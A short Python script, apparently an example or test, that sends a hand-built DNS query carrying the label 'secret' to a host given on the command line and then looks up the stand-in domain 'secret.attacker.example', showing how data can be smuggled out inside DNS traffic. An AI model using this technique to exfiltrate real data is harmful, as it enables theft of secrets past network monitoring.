"""Sends data away inside a DNS question."""

import socket
import sys

with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
    peer.sendto(
        b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x00\x00\x01\x00\x01",
        (sys.argv[1], int(sys.argv[2])),
    )
socket.setdefaulttimeout(2)
print(socket.getaddrinfo("secret.attacker.example", 443))
